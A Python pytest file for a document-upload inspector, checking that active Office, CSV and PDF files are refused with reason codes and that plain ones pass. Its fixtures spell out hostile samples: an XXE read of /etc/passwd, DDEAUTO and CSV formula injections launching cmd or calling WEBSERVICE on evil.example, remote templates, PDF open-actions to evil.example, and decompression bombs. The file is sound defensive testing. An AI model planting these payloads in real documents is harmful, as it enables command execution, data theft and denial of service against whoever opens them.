"""Documents that do something when they are opened, or something to whoever checks them: refused, each with its reason."""

import io
import random
import sys
import zipfile
import zlib
from threading import BoundedSemaphore

import pikepdf
import pytest

from tests.tracks.test_contents import (
    bare_zip,
    docx,
    linked,
    ods,
    ole,
    on_open,
    package,
    pdf,
    picture,
    sheet,
    told,
    xls,
    xlsx,
)
from tracks import contents
from tracks.contents import apart

TYPES = '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">%s</Types>'
MACRO = '<Override PartName="/xl/code.bin" ContentType="application/vnd.ms-office.%s"/>'
SHEETS = "application/vnd.openxmlformats-officedocument.spreadsheetml"
FIELD = "<w:p xmlns:w='x'><w:instrText>DDEAUTO cmd</w:instrText></w:p>"
RELATED = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


def typed(inside, encoding="utf-8"):
    return bare_zip([("[Content_Types].xml", (TYPES % inside).encode(encoding)), ("xl/workbook.xml", "<workbook/>")])


def related(kind, target):
    one = f'<Relationship Id="r" Type="{RELATED}{kind}" Target="{target}" TargetMode="External"/>'
    rels = f"<Relationships>{one}</Relationships>"
    return bare_zip(
        [
            ("[Content_Types].xml", "<Types/>"),
            ("word/document.xml", "<document/>"),
            ("word/_rels/settings.xml.rels", rels),
        ]
    )


def written(words):
    """A text whose fields have these instructions, run by run."""
    runs = "".join(f"<w:r><w:instrText>{one}</w:instrText></w:r>" for one in words)
    body = f'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">{runs}</w:document>'
    return bare_zip([("[Content_Types].xml", "<Types/>"), ("word/document.xml", body)])


def moved(name, body, *said, main="xl/workbook.xml"):
    """A package with a part at a place of its own, which is said to be each of these kinds."""
    types = "".join(f'<Override PartName="/{name}" ContentType="{one}"/>' for one in said)
    return bare_zip([(name, body), (main, "<main/>"), ("[Content_Types].xml", TYPES % types)])


def torn():
    """A package whose first member cannot be unpacked."""
    words = random.Random(1).choices("abcdef", k=6000)
    data = bytearray(typed("<!--" + "".join(words) + "-->"))
    start = data.find(b"[Content_Types].xml") + len(b"[Content_Types].xml")
    data[start : start + 40] = b"\xff" * 40
    return bytes(data)


def late_doctype(name="xl/sharedStrings.xml", encoding="utf-8"):
    text = "<!--" + "x" * 5000 + '--><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'
    return package([(name, text.encode(encoding))])


def heap(megabytes):
    """A PDF whose heap of objects unpacks to so much; with its own table of where everything is."""
    packed = zlib.compress(b"4 0 <</S/JavaScript>>" + b" " * (megabytes * 1024 * 1024), 9)
    out, places = b"%PDF-1.5\n", {}
    objects = {
        1: b"<</Type/Catalog/Pages 2 0 R/X 4 0 R>>",
        2: b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        3: b"<</Type/Page/Parent 2 0 R/Resources<<>>/MediaBox[0 0 9 9]>>",
        5: b"<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>stream\n" % len(packed) + packed + b"\nendstream",
    }
    for number, body in objects.items():
        places[number] = len(out)
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    places[6] = len(out)
    rows = b"\0\0\0\0\0\0\0"
    for number in range(1, 7):
        inside = number == 4
        rows += (b"\2" if inside else b"\1") + (5 if inside else places[number]).to_bytes(4, "big") + b"\0\0"
    table = b"6 0 obj\n<</Type/XRef/W[1 4 2]/Size 7/Root 1 0 R/Length %d>>stream\n" % len(rows)
    return out + table + rows + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF" % places[6]


def crowd(count):
    """A PDF of so many objects, each of them nothing."""

    def change(document):
        document.Root.X = pikepdf.Array([document.make_indirect(pikepdf.Dictionary()) for _one in range(count)])

    return pdf(change, object_stream_mode=pikepdf.ObjectStreamMode.generate)


def goes_to(target):
    return on_page(pikepdf.Dictionary(S=pikepdf.Name("/GoToR"), F=target, D=0))


def on_page(action):
    def change(document):
        link = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 9, 9], A=action)
        document.pages[0].Annots = pikepdf.Array([link])

    return change


def when_shown(document):
    document.pages[0].AA = pikepdf.Dictionary(O=pikepdf.Dictionary(S=pikepdf.Name("/URI"), URI="https://evil.example/"))


def then(document):
    following = pikepdf.Dictionary(S=pikepdf.Name("/URI"), URI="https://evil.example/")
    document.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name("/Named"), N=pikepdf.Name("/NextPage"), Next=following)


def then_each(document):
    turn = pikepdf.Dictionary(S=pikepdf.Name("/Named"), N=pikepdf.Name("/NextPage"))
    place = pikepdf.Array([document.pages[0].obj, pikepdf.Name("/Fit")])
    document.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name("/GoTo"), D=place, Next=pikepdf.Array([turn, uri()]))


def then_stream(document):
    document.Root.OpenAction = document.make_stream(b"", S=pikepdf.Name("/URI"), URI="https://evil.example/")


def turning(document):
    turn = pikepdf.Dictionary(S=pikepdf.Name("/Named"), N=pikepdf.Name("/NextPage"))
    document.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name("/Named"), Next=pikepdf.Array([turn, turn]))


def stored_elsewhere(document):
    document.Root.X = document.make_stream(b"", F="https://evil.example/x")


def uri():
    return pikepdf.Dictionary(S=pikepdf.Name("/URI"), URI="https://city.example/")


ACTING = [
    ("broken", torn(), "a.xlsx"),
    ("broken", package([("xl/evil.xml", b"<a><b></a>")]), "a.xlsx"),
    ("entities", late_doctype(), "a.xlsx"),
    ("entities", late_doctype(encoding="utf-16"), "a.xlsx"),
    ("entities", late_doctype("xl/drawings/a.vml"), "a.xlsx"),
    ("macros", typed(MACRO % "vbaProject", "utf-16"), "a.xlsx"),
    ("macros", typed(MACRO % "vba&#80;roject"), "a.xlsx"),
    ("embedded", package([("xl/code.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"x" * 99)]), "a.xlsx"),
    ("remote", related("attachedTemplate", "https://evil.example/x.dotm"), "a.docx"),
    ("remote", related("attachedTemplate", "file://evil.example/x.dotm"), "a.docx"),
    ("remote", related("image", "\\\\evil.example\\x.png"), "a.docx"),
    ("remote", related("image", "file:///\\\\evil.example\\x.png"), "a.docx"),
    ("remote", package([("xl/externalLinks/externalLink1.xml", b"<externalLink><ddeLink/></externalLink>")]), "a.xlsx"),
    ("remote", written(["DDEAUTO c:\\\\windows\\\\cmd.exe"]), "a.docx"),
    ("remote", written([" D", "DE ", "cmd"]), "a.docx"),
    ("formula", b"a,b\n=cmd|' /C calc'!A0,1\n", "a.csv"),
    ("formula", b'a,"@SUM(1)+cmd|\'/C calc\'!A0"\n', "a.csv"),
    ("formula", b'a;=WEBSERVICE("https://evil.example/"&A1)\n', "a.csv"),
    ("formula", b"a,b\r=cmd|' /C calc'!A0,1\r", "a.csv"),
    ("formula", b"a,b\n\n\t  =1|2|cmd|' /C calc'!A0", "a.csv"),
    ("formula", b"a;" + b" " * 900 + b"=1+" + b" " * 900 + b"IMPORTXML  (A1)\n", "a.csv"),
    ("broken", ole("Workbook"), "a.xls"),
    ("broken", xls(sheet(0))[:1600], "a.xls"),
    ("broken", xls(b"").replace(b"\x09\x08", b"\x09\x04"), "a.xls"),
    ("locked", xls(told(0x2F, b"\1\0" * 20)), "a.xls"),
    ("macros", xls(sheet(0), sheet(1)), "a.xls"),
    ("macros", xls(sheet(1), small=True), "a.xls"),
    ("macros", xls(sheet(6)), "a.xls"),
    ("macros", xls(sheet(0), b"\x0a\0\0\0", told(0x809, b"\0\6\x40\0")), "a.xls"),
    ("macros", xls(told(0xFC, b"\0" * 3 + told(0x809, b"\0\6\x40\0")), sheet(0, 27)), "a.xls"),
    ("embedded", xls(sheet(0), beside=["MBD0018D4CE"]), "a.xls"),
    ("remote", xls(linked("cmd\x03/C calc")), "a.xls"),
    ("remote", xls(linked("\x01\x01@evil.example\x03share\x03x.xls")), "a.xls"),
    ("remote", xls(linked("\x01\x05\x19https://evil.example/x.xls")), "a.xls"),
    ("remote", moved("xl/links/one.xml", "<a:ddeLink xmlns:a='x'/>"), "a.xlsx"),
    ("remote", moved("xl/links/one.dat", "<ddeLink/>", f"{SHEETS}.externalLink+xml"), "a.xlsx"),
    ("remote", moved("xl/externalLinks/one.xml", "<ddeLink/>", f"{SHEETS}.worksheet+xml", f"{SHEETS}.externalLink+xml"), "a.xlsx"),
    ("remote", moved("text/document.xml", FIELD, "application/vnd.ms-word.main+xml", main="word/document.xml"), "a.docx"),
    ("remote", ods([("Object 1/content.xml", "<office:dde-source xmlns:office='x'/>")]), "a.ods"),
    ("remote", ods([("styles.xml", "<text:dde-connection-decl xmlns:text='x'/>")]), "a.ods"),
    ("unsafe-path", package([("[CONTENT_TYPES].xml", b"<Types/>")]), "a.xlsx"),
    ("active-pdf", pdf(then_each), "a.pdf"),
    ("active-pdf", pdf(then_stream), "a.pdf"),
    ("bomb", package([(f"xl/{n}.bin", b"\0" * 1_040_000) for n in range(20)]), "a.xlsx"),
    ("active-pdf", pdf(on_open({"/S": pikepdf.Name("/SubmitForm"), "/F": "https://evil.example/"})), "a.pdf"),
    ("active-pdf", pdf(on_open({"/S": pikepdf.Name("/URI"), "/URI": "https://evil.example/"})), "a.pdf"),
    ("active-pdf", pdf(on_open({"/S": pikepdf.Name("/GoToE")})), "a.pdf"),
    ("active-pdf", pdf(when_shown), "a.pdf"),
    ("active-pdf", pdf(then), "a.pdf"),
    ("active-pdf", pdf(stored_elsewhere), "a.pdf"),
    ("active-pdf", pdf(goes_to("\\\\evil.example\\share\\x.pdf")), "a.pdf"),
    ("active-pdf", pdf(goes_to(pikepdf.Dictionary(F="/evil.example/share/x.pdf"))), "a.pdf"),
    ("other-content", b"24 bytes of plain text..", "a.pdf"),
    ("other-content", b"a,b\n1,2\n", "a.xlsx"),
    ("other-content", b"not a picture", "a.png"),
]  # fmt: skip


@pytest.mark.parametrize(("code", "data", "name"), ACTING)
def test_what_acts_when_it_is_opened_is_refused_with_its_reason(code, data, name):
    with pytest.raises(contents.Unfit) as unfit:
        contents.inspect(data, name)
    assert unfit.value.code == code


@pytest.mark.parametrize(
    ("data", "name"),
    [
        (pdf(on_page(uri())), "a.pdf"),
        (pdf(goes_to("annex.pdf")), "a.pdf"),
        (pdf(on_open({"/S": pikepdf.Name("/GoTo"), "/D": pikepdf.Array([0, pikepdf.Name("/Fit")])})), "a.pdf"),
        (related("hyperlink", "https://city.example/"), "a.docx"),
        (related("attachedTemplate", "file:///C:\\Users\\clerk\\Normal.dotm"), "a.docx"),
        (related("externalLinkPath", "Budget%202025.xlsx"), "a.docx"),
        (written([" PAGE ", " HYPERLINK &quot;https://city.example/&quot; "]), "a.docx"),
        (typed('<Default Extension="rels" ContentType="application/xml"/>', "utf-16"), "a.xlsx"),
        (b'a,b\n-5,+49 30 1234\n@home,"=""00123"""\n', "a.csv"),
        (b"words | more words!\n", "a.csv"),
        (b"-1" + b"," * 250 + b"image (1)\n", "a.csv"),
        (xls(told(0x1AE, b"\2\0\1\4"), linked("\x01budget\x032025.xls")), "a.xls"),
        (moved("xl/worksheets/sheet1.xml", "<worksheet><c/></worksheet>", f"{SHEETS}.worksheet+xml"), "a.xlsx"),
        (pdf(turning), "a.pdf"),
        (b"plain text", "letter"),
    ],
    ids=range(15),
)
def test_what_only_shows_is_let_in(data, name):
    contents.inspect(data, name)


@pytest.mark.parametrize(
    ("data", "name"),
    [
        (pdf(), "a.pdf"),
        (xlsx(), "a.xlsx"),
        (docx(), "a.docx"),
        (ods(), "a.ods"),
        (typed("", "utf-16"), "a.xlsx"),
        (package([("docProps/é.xml", '<?xml version="1.0" encoding="windows-1252"?><a>é</a>'.encode("cp1252"))]), "a.xlsx"),
        (picture("PNG"), "a.png"),
        (picture("JPEG"), "a.jpg"),
        (xls(sheet(0)), "a.xls"),
        (b"a,b\n" * 30_000, "a.csv"),
        (b'{"type": "FeatureCollection", "features": [' + b"{}," * 30_000 + b"{}]}", "a.geojson"),
    ],
    ids=["pdf", "xlsx", "docx", "ods", "utf-16", "windows-1252", "png", "jpeg", "xls", "csv", "geojson"],
)  # fmt: skip
def test_apart_finds_the_same(data, name):
    assert not contents.is_light(data, name)
    assert apart.inspect(data, name) == contents.inspect(data, name)


@pytest.mark.parametrize(
    ("code", "data", "name"),
    [
        ("exhausting", heap(800), "a.pdf"),
        ("active-pdf", heap(1), "a.pdf"),
        ("broken", b"%PDF-1.7 and nothing more", "a.pdf"),
        ("markup", b"<html>" + b" " * contents.LIGHT, "-m.txt"),
        ("empty", b"", "a.txt"),
    ],
)
def test_apart_refuses_with_the_same_reason(code, data, name):
    with pytest.raises(contents.Unfit) as unfit:
        apart.inspect(data, name)
    assert unfit.value.code == code


@pytest.mark.parametrize("sign", ["\n", "\t", '"=', '"=|', "-5,"], ids=["lines", "tabs", "formulas", "bars", "numbers"])
def test_a_table_is_judged_elsewhere_however_short(sign):
    data = ("a" + sign * contents.LIGHT)[: contents.LIGHT].encode()
    for name in ("a.csv", "A.CSV", "a.csv ", "a.\u200bcsv"):
        assert not contents.is_light(data, name)
    assert contents.is_light(data, "a.txt")
    assert apart.inspect(data, "a.csv").media_type == contents.CSV


def test_whose_turn_does_not_come_is_told_to_try_again(monkeypatch):
    monkeypatch.setattr(apart, "AT_ONCE", BoundedSemaphore(1))
    monkeypatch.setattr(apart, "LONGEST_WAIT", 0.01)
    with apart.AT_ONCE, pytest.raises(contents.Unfit, match="not-checked"):
        apart.inspect(pdf(), "a.pdf")
    assert apart.inspect(pdf(), "a.pdf").media_type == contents.PDF
    with pytest.raises(contents.Unfit, match="broken"):
        apart.inspect(b"%PDF-1.7 and nothing more", "a.pdf")
    assert apart.AT_ONCE.acquire(blocking=False), "a refused file gives its place back"


@pytest.mark.parametrize(
    ("code", "does"),
    [
        ("exhausting", "import signal, os; os.kill(os.getpid(), signal.SIGXCPU)"),
        ("exhausting", "import time; time.sleep(30)"),
        ("not-checked", "raise SystemExit(1)"),
        ("not-checked", "print('no answer')"),
    ],
)
def test_a_process_that_ends_without_a_verdict_lets_nothing_in(code, does, tmp_path, monkeypatch):
    (tmp_path / "tracks").mkdir()
    (tmp_path / "tracks" / "contents.py").write_text(does, encoding="utf-8")
    monkeypatch.setattr(apart, "HOUSE", tmp_path)
    monkeypatch.setattr(apart, "PATIENCE", 5)
    with pytest.raises(contents.Unfit) as unfit:
        apart.inspect(pdf(), "a.pdf")
    assert unfit.value.code == code


def test_no_process_no_verdict(monkeypatch):
    monkeypatch.setattr(sys, "executable", "/nowhere/python")
    with pytest.raises(contents.Unfit, match="not-checked"):
        apart.inspect(pdf(), "a.pdf")


def test_whatever_a_library_stumbles_over_is_a_broken_file():
    seed, sound = random.Random(7), [pdf(), xlsx(), picture("PNG"), picture("JPEG")]
    for data in sound * 60:
        hurt = bytearray(data)
        for _ in range(seed.choice((1, 3, 10, 40))):
            hurt[seed.randrange(5, len(hurt))] = seed.randrange(256)
        try:
            contents.inspect(bytes(hurt), "a.pdf")
        except contents.Unfit:
            continue


def test_a_zip_stays_closed_to_other_packings():
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_LZMA) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>" + " " * 3000)
        archive.writestr("xl/workbook.xml", "<workbook/>")
    data = bytearray(out.getvalue())
    start = data.find(b"[Content_Types].xml") + len(b"[Content_Types].xml")
    data[start + 9 : start + 20] = b"\xff" * 11
    with pytest.raises(contents.Unfit, match="broken"):
        contents.inspect(bytes(data), "a.xlsx")
